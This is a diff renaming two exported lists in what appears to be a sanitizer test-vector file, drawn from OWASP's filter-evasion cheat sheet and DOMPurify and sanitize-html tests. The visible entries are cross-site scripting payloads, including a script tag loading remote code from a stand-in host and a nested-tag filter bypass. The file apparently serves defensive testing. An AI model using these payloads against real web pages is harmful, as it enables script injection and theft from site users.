@@ -1,5 +1,5 @@
 /** After OWASP's cheat sheet of filter evasion, the lists of DOMPurify's and sanitize-html's tests, and mutation XSS. */
-export const VECTORS = [
+export const XSS_VECTORS = [
   '<script>alert(1)</script>',
   '<SCRIPT SRC=https://t.x/xss.js></SCRIPT>',
   '<scr<script>ipt>alert(1)</scr</script>ipt>',
@@ -122,7 +122,7 @@ export const VECTORS = [
 ];
 
 /** What loads something of another server, in all the ways that are known. */
-export const LOADS = [
+export const LOADING_VECTORS = [
   '<img src="https://t.x/a">',
   '<img src="//t.x/b">',
   '<img src="https:/t.x/c">',
